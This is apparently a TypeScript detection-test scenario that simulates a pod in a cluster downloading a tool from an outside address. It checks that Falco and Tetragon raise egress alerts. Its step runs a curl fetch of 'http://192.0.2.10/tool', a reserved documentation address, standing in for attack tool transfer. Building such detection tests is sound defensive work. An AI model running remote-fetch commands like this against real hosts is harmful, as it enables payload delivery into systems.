import { defineScenario, type Query } from "../model/scenario-schema";
import outboundAlert from "../queries/outbound.falco.json";
import outboundMatch from "../queries/outbound.tetragon.json";
import { falcoAlert } from "../samples/falco";
import { tetragonMatch } from "../samples/tetragon";

const LINE = "/usr/bin/curl --silent --max-time 3 http://192.0.2.10/tool";

export const outboundDownload = defineScenario({
  id: "outbound-download",
  title: "A tool is fetched from outside the cluster",
  stage: "validation",
  techniques: ["T1071"],
  simulates: ["T1105"],
  danger: "simulated",
  proves: "A tool that connects out of the cluster is seen, whether the network lets it or not.",
  pods: ["attacker"],
  steps: [
    {
      do: "exec",
      pod: "attacker",
      command: ["curl", "--silent", "--max-time", "3", "http://192.0.2.10/tool"],
      exitCodes: [0, 6, 7, 28],
      why: "An address that belongs to nobody (RFC 5737).",
    },
  ],

  expectations: [
    {
      tool: "falco",
      what: "alert: connection out of the cluster",
      query: outboundAlert as Query,
      fields: { "threat.technique.id": "T1071", "threat.tactic.id": "TA0011", "event.severity": 2 },
    },
    {
      tool: "tetragon",
      what: "policy match: connection",
      query: outboundMatch as Query,
      fields: { "threat.technique.id": "T1071", "event.severity": 4 },
    },
  ],
  samples: [
    falcoAlert({
      rule: "Outbound connection to a non-cluster address",
      pod: "attacker",
      event: "connect",
      command: LINE,
      fields: { "fd.name": "10.244.1.7:41236->192.0.2.10:80", "fd.sip": "192.0.2.10" },
    }),
    tetragonMatch({
      policy: "suspicious-egress",
      call: "tcp_connect",
      pod: "attacker",
      command: LINE,
      args: [
        {
          sock_arg: {
            family: "AF_INET",
            protocol: "IPPROTO_TCP",
            saddr: "10.244.1.7",
            daddr: "192.0.2.10",
            sport: 41236,
            dport: 80,
          },
        },
      ],
    }),
  ],
});
